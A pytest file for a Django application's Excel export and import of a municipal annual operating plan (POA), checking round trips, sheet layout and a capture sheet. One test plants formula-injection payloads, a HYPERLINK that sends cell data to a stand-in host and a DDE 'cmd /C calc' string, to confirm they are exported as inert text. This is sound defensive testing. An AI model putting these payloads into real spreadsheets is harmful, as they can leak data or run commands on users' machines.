"""The plantilla export: same layout, claves as text, and export → import reproduces the POA."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from avances.models import Avance
from plantilla.exportacion import exportar_hoja_captura, exportar_libro
from plantilla.importacion import analizar_libro, importar_libro
from programas.models import (
    Ejercicio,
    LineaPMD,
    Meta,
    Presupuesto,
    Programa,
    Ramo,
    UnidadEjecutora,
)
from tests.fixtures_demo import COLUMNAS_AVANCES, COLUMNAS_METAS, fila_meta, libro_xlsx

D = Decimal


def volcado(anio: int) -> dict:
    """A canonical, id-free dump of one ejercicio's POA."""
    ejercicio = Ejercicio.objects.get(anio=anio)
    ramos = {
        r.clave: (r.nombre, r.responsable_nombre, r.responsable_cargo)
        for r in Ramo.objects.filter(ejercicio=ejercicio)
    }
    programas = {
        (p.ramo.clave, p.clave): (p.nombre, p.finalidad, p.funcion, p.subfuncion, p.eje,
                                  p.responsable_nombre, p.responsable_cargo)
        for p in Programa.objects.filter(ramo__ejercicio=ejercicio).select_related("ramo")
    }  # fmt: skip
    unidades = {
        (u.ramo.clave, u.clave): (u.nombre, u.responsable_nombre, u.responsable_cargo)
        for u in UnidadEjecutora.objects.filter(ramo__ejercicio=ejercicio).select_related("ramo")
    }
    lineas = dict(LineaPMD.objects.filter(ejercicio=ejercicio).values_list("codigo", "nombre"))
    metas = {}
    posicion: dict = {}
    for m in (
        Meta.objects.filter(unidad__ramo__ejercicio=ejercicio)
        .select_related("unidad__ramo", "programa")
        .prefetch_related("programados", "avances", "lineas_pmd", "reprogramaciones")
        .order_by("unidad", "orden", "clave")
    ):
        llave = (m.unidad.ramo.clave, m.unidad.clave, m.clave)
        posicion[m.unidad_id] = posicion.get(m.unidad_id, 0) + 1
        metas[llave] = {
            "posicion_en_unidad": posicion[m.unidad_id],
            "programa": m.programa.clave,
            "campos": (m.grupo, m.descripcion, m.unidad_medida, m.meta_anual,
                       m.meta_anual_original, m.mes_inicio, m.tipo_acumulacion, m.sentido,
                       m.nivel_mir),
            "lineas": sorted(li.codigo for li in m.lineas_pmd.all()),
            "programado": {p.mes: p.valor for p in m.programados.all()},
            "avances": {a.mes: (a.realizado, a.observaciones) for a in m.avances.all()},
            "reprogramaciones": sorted(
                (r.tipo, r.mes_desde, r.meta_anual_anterior, r.meta_anual_nueva,
                 r.mes_inicio_anterior, r.mes_inicio_nuevo, r.motivo)
                for r in m.reprogramaciones.all()
            ),
        }  # fmt: skip
    presupuesto = {
        (p.programa.ramo.clave, p.programa.clave, p.capitulo): (
            p.descripcion, p.autorizado, p.modificado, p.devengado_t1, p.devengado_t2,
            p.devengado_t3, p.devengado_t4,
        )
        for p in Presupuesto.objects.filter(programa__ramo__ejercicio=ejercicio).select_related(
            "programa__ramo"
        )
    }  # fmt: skip
    return {"ramos": ramos, "programas": programas, "unidades": unidades, "lineas": lineas,
            "metas": metas, "presupuesto": presupuesto}  # fmt: skip


def vaciar_base() -> None:
    from programas.models import ObjetivoMIR

    ObjetivoMIR.objects.all().delete()  # indicators and variables go with their objectives
    Meta.objects.all().delete()
    Presupuesto.objects.all().delete()
    Programa.objects.all().delete()
    UnidadEjecutora.objects.all().delete()
    LineaPMD.objects.all().delete()
    Ramo.objects.all().delete()
    Ejercicio.objects.all().delete()


def test_export_then_import_into_an_empty_database_reproduces_the_demo_poa(poa_demo):
    antes = volcado(2022)
    assert len(antes["metas"]) == 134
    contenido = exportar_libro(ejercicio=poa_demo)
    vaciar_base()
    assert not Meta.objects.exists()
    importar_libro(contenido, ejercicio=2022)
    assert volcado(2022) == antes
    # And the exported file imports again without a single change.
    plan = analizar_libro(contenido, ejercicio=2022)
    assert plan.errores == [] and not plan.hay_escrituras


def test_export_has_the_plantilla_layout_with_text_claves_and_numeric_figures(poa_demo):
    libro = openpyxl.load_workbook(io.BytesIO(exportar_libro(ejercicio=poa_demo)))
    assert libro.sheetnames == [
        "metas", "avances", "lineas_pmd", "programas", "responsables", "presupuesto",
        "objetivos", "alineacion", "mir", "indicadores", "variables", "valores_variables",
    ]  # fmt: skip
    metas = libro["metas"]
    # The plantilla's columns, then the optional cronograma ones (DOMAIN.md §9).
    assert [c.value for c in metas[1]] == [
        *COLUMNAS_METAS,
        "responsable",
        "fecha_inicio",
        "fecha_fin",
        "periodicidad",
    ]
    assert [c.value for c in libro["avances"][1]] == COLUMNAS_AVANCES
    filas = {(r[0].value, r[4].value, r[7].value): r for r in metas.iter_rows(min_row=2)}
    assert len(filas) == 134
    fila = filas[("01", "001", "1.1")]
    assert fila[2].value == "000" and fila[2].data_type == "s" and fila[2].number_format == "@"
    assert fila[0].number_format == "@" and fila[7].number_format == "@"
    bisom = filas[("54", "54101", "100")]
    indice = {c: i for i, c in enumerate(COLUMNAS_METAS)}
    assert bisom[indice["meta_anual"]].value == 320
    assert bisom[indice["meta_anual"]].data_type == "n"
    assert bisom[indice["meta_anual_original"]].value == 446
    assert bisom[indice["mes_inicio"]].value == 4
    assert bisom[indice["mar"]].value == 126
    assert bisom[indice["lineas_pmd"]].value == "2.1.1, 2.1.4, 2.1.5, 2.3.3"
    assert libro["avances"].max_row - 1 == 136 + 138 + 576
    presupuesto = libro["presupuesto"]
    fila_p = next(r for r in presupuesto.iter_rows(min_row=2) if r[2].value == "10000")
    assert fila_p[4].value == pytest.approx(814015.58) and fila_p[4].data_type == "n"
    assert fila_p[6].value is None


def test_formula_like_text_is_exported_so_spreadsheets_do_not_run_it(poa_demo):
    meta = Meta.objects.get(unidad__clave="54101", clave="100")
    peligroso = '=HYPERLINK("http://malo.example/?"&A1,"ver")'
    meta.descripcion = peligroso
    meta.grupo = "@SUM(1+1)*cmd|' /C calc'!A0"
    meta.save()
    Avance.objects.filter(meta=meta, mes=6).update(observaciones="-2+3")
    contenido = exportar_libro(ejercicio=poa_demo)
    xml = zipfile.ZipFile(io.BytesIO(contenido)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"HYPERLINK" in xml
    libro = openpyxl.load_workbook(io.BytesIO(contenido))
    celdas = [c for r in libro["metas"].iter_rows() for c in r if c.value == peligroso]
    assert celdas and celdas[0].data_type == "s" and celdas[0].quotePrefix
    vaciar_base()
    importar_libro(contenido, ejercicio=2022)
    meta = Meta.objects.get(unidad__clave="54101", clave="100")
    assert meta.descripcion == peligroso and meta.grupo.startswith("@SUM")
    assert meta.avances.get(mes=6).observaciones == "-2+3"


def test_rich_workbook_imports_twice_and_round_trips(db):
    """Many ramos, a unidad shared by programas, claves like 099 and 2.1.10, every tipo."""
    tipos = ["SUMA", "PROMEDIO", "ULTIMO", "MAXIMO"]
    metas = []
    for r, ramo in enumerate(["01", "054", "OROMAPAS"]):
        for p, programa in enumerate(["000", "511"]):
            for c, clave in enumerate(["099", "2.1.10", "5 - 3"]):
                tipo = tipos[(r + p + c) % 4]
                valores = [D("10.25")] * 12 if tipo == "SUMA" else [D("87.5")] * 12
                metas.append(
                    fila_meta(
                        f"{clave}.{p}", ramo=ramo, programa=programa, unidad=f"{ramo}-U1",
                        meta_anual=sum(valores) if tipo == "SUMA" else D("87.5"),
                        programado=valores, tipo_acumulacion=tipo,
                        sentido="DESCENDENTE" if c == 2 else "ASCENDENTE",
                        nivel_mir=["FIN", "PROPÓSITO", "Sub-actividad"][c],
                        lineas_pmd="2.1.1" if c else "", grupo=f"Actividad {p}",
                    )
                )  # fmt: skip
    avances = [[m["ramo_clave"], m["unidad_clave"], m["clave"], 2, D("3.5"), "ok"]
               for m in metas]  # fmt: skip
    contenido = libro_xlsx({"metas": metas, "avances": avances})
    primero = importar_libro(contenido, ejercicio=2027)
    assert primero.conteo_creados["Meta"] == 18
    assert Meta.objects.filter(unidad__clave="054-U1").values("programa").distinct().count() == 2
    segundo = analizar_libro(contenido, ejercicio=2027)
    assert segundo.errores == [] and not segundo.hay_escrituras
    antes = volcado(2027)
    exportado = exportar_libro(ejercicio=Ejercicio.objects.get(anio=2027))
    vaciar_base()
    importar_libro(exportado, ejercicio=2027)
    assert volcado(2027) == antes
    assert Meta.objects.get(unidad__ramo__clave="054", clave="099.1").nivel_mir == "FIN"


def test_exportar_poa_command_writes_the_workbook(poa_demo, tmp_path):
    salida = tmp_path / "poa.xlsx"
    call_command("exportar_poa", "--ejercicio", "2022", "--salida", str(salida))
    libro = openpyxl.load_workbook(salida)
    assert libro["metas"].max_row == 135
    with pytest.raises(CommandError, match="No existe el ejercicio 1999"):
        call_command("exportar_poa", "--ejercicio", "1999", "--salida", str(salida))


def test_capture_sheet_has_p_prefilled_and_current_r(poa_demo):
    unidad = UnidadEjecutora.objects.get(ramo__clave="54", clave="54101")
    libro = openpyxl.load_workbook(io.BytesIO(exportar_hoja_captura(unidad=unidad, trimestre=2)))
    assert libro.sheetnames == ["avances", "instrucciones"]
    hoja = libro["avances"]
    encabezado = [c.value for c in hoja[1]]
    filas = [dict(zip(encabezado, (c.value for c in r), strict=True))
             for r in hoja.iter_rows(min_row=2)]  # fmt: skip
    assert len(filas) == unidad.metas.count() * 3
    junio = next(f for f in filas if f["clave"] == "100" and f["mes"] == 6)
    assert junio["programado"] == 91 and junio["realizado"] == 91
    assert junio["mes_nombre"] == "Junio" and junio["descripcion"].startswith("Proporcionar")
    abril = next(f for f in filas if f["clave"] == "100" and f["mes"] == 4)
    assert abril["realizado"] is None and abril["programado"] == 0
    celda_p = hoja.cell(row=2, column=encabezado.index("programado") + 1)
    assert celda_p.fill.fgColor.rgb.endswith("E7E6E6")  # grey: read-only looking
